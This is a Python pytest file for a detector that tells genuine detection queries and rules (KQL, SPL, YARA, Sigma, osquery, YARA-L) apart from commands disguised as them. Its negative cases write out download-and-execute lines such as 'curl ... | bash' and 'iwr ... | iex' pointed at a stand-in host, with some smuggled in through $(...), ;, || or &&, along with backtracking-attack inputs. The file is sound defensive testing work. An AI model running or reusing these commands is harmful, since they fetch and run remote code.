"""A detection query or rule is read by its grammar, every line; a command under it is not."""

from __future__ import annotations

import pytest

from app.detection.queries import is_detection_content

KQL = """DeviceProcessEvents
| where FileName in~ ("mshta.exe", "powershell.exe")
| where ProcessCommandLine has_any ("-enc", "iex", "curl")
    and InitiatingProcessFileName =~ "explorer.exe"
| project Timestamp, DeviceName, ProcessCommandLine"""
SPL = """`sysmon` EventCode=1 CommandLine IN ("*DownloadString*", "*iex*")
| stats count by dest CommandLine
| `security_content_ctime(firstTime)`"""
YARA = """rule Lure : clickfix
{
    strings:
        $a = "powershell -w hidden -enc" nocase
        $b = /iex\\s*\\(iwr/ nocase
    condition:
        any of them
}"""
SIGMA = """title: Curl Piped To Shell
detection:
    selection:
        CommandLine|contains:
            - 'curl '
            - '| bash'
    condition: selection"""


# osquery's SQL on one line, with the statement's closing semicolon
OSQUERY = (
    "SELECT pid, name, cmdline FROM processes WHERE cmdline LIKE '%osascript -e%display dialog%';"
)
# YARA-L (Google SecOps): sections events/condition, an event's dotted fields compared
YARA_L = """rule run_dialog_powershell {
  meta:
    severity = "HIGH"
  events:
    $e.metadata.event_type = "PROCESS_LAUNCH"
    $e.target.process.command_line = /powershell.*(-w\\s+h|hidden).*(iwr|iex)/ nocase
  condition:
    $e
}"""


@pytest.mark.parametrize(
    "text",
    [KQL, SPL, YARA, SIGMA, OSQUERY, YARA_L],
    ids=["kql", "spl", "yara", "sigma", "osquery", "yara-l"],
)
def test_queries_and_rules_are_read_as_such(text: str) -> None:
    assert is_detection_content(text)


@pytest.mark.parametrize(
    "text",
    [
        # a command under the query's source, or after its last stage
        "DeviceProcessEvents\npowershell -w h -c iwr https://a.test/x | iex",
        KQL + "\niex (iwr https://a.test/x.ps1)",
        # what a shell starts whatever the first word: $(...), backticks, ;, ||, &&
        SIGMA + "\n    extra: $(curl -s https://a.test/s.sh | bash)",
        "detection:\n  condition: x || curl -s https://a.test/s.sh | bash",
        "DeviceProcessEvents | where x == 1; iwr https://a.test/a.ps1 | iex",
        # a shell after a pipe, a program among a search's terms (bash runs it)
        "index=main sourcetype=x\n| where x | sh",
        "index=main curl -fsSL https://a.test/s.sh | bash",
        # a rule's condition that is a command line, a subshell hiding one
        "rule X\n{\n    condition:\n        curl -fsSL https://a.test/s.sh -o /tmp/s\n}",
        "rule X\n{\n    condition:\n        (curl -fsSL https://a.test/s.sh -o /tmp/s)\n}",
        # a statement with a command after it, or under it; a YARA-L rule with one beside it
        "SELECT 1 FROM t; curl -fsSL https://a.test/s.sh | sh",
        "SELECT name FROM processes\ncurl -fsSL https://a.test/s.sh | sh",
        "SELECT name FROM processes WHERE 1 = 1 && curl -fsSL https://a.test/s.sh | sh",
        YARA_L + "\npowershell -w h -c iwr https://a.test/x | iex",
        # one line alone, a sentence
        "DeviceProcessEvents",
        "Run this query in Sentinel to find mshta launches.",
    ],
)
def test_a_command_in_a_querys_clothes_is_no_query(text: str) -> None:
    assert not is_detection_content(text)


def test_a_hostile_line_is_given_up_in_linear_time() -> None:
    """Lines made to make a backtracking reader take the square (or the cube) of their length:
    a YARA rule's head with thousands of blanks, unclosed quotes with escapes, a line longer
    than any query's. Each is read at once, as no query."""
    for line in (
        "rule a : " + " " * 2000 + "!",
        "'\\" * 1000,
        '"\\' * 1000,
        "| where " + "a" * 5000,
    ):
        assert not is_detection_content("rule x\n{\n" + "\n".join([line] * 300))


def _strings_out_one_character_at_a_time(line: str) -> str:
    """What queries._strings_out gave when it copied a character at a time (the reference)."""
    out: list[str] = []
    i, n, unclosed = 0, len(line), set[str]()
    while i < n:
        c = line[i]
        verbatim = c == "@" and line.startswith('@"', i)
        quote = '"' if verbatim else c
        if quote not in "\"'" or quote in unclosed:
            out.append(c)
            i += 1
            continue
        j = i + (2 if verbatim else 1)
        while j < n and line[j] != quote:
            j += 1 if verbatim or line[j] != "\\" else 2
        if j >= n:
            unclosed.add(quote)
            out.append(c)
            i += 1
            continue
        out.append("S")
        i = j + 1
    return "".join(out)


def test_strings_are_taken_out_as_one_character_at_a_time_did() -> None:
    """Every short line of quotes, verbatim marks, backslashes and plain text (unclosed
    strings, escaped quotes, a backslash last) reads as it did when copied a character at a
    time, and so do a few real lines."""
    import random

    from app.detection.queries import _strings_out

    rng = random.Random(9)
    alphabet = ['"', "'", "@", "\\", "a", " ", "é"]
    lines = [KQL, SPL, YARA, SIGMA, *KQL.splitlines(), *SPL.splitlines()]
    lines += ["".join(rng.choice(alphabet) for _ in range(rng.randrange(12))) for _ in range(20000)]
    for line in lines:
        assert _strings_out(line) == _strings_out_one_character_at_a_time(line), line
